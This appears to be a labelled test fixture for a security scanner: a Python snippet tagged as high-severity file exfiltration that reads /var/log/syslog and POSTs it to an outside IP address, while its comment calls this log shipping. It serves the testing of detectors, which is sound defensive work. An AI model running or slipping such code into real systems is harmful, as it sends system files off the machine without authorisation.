# expect: HIGH category: file_exfiltration
# Ships the system log to a collector with http.client.
import http.client

connection = http.client.HTTPConnection("198.51.100.7", 8080, timeout=10)
with open("/var/log/syslog", "rb") as log:
    connection.request("POST", "/ingest", log.read(), {"Content-Type": "text/plain"})
print(connection.getresponse().status)
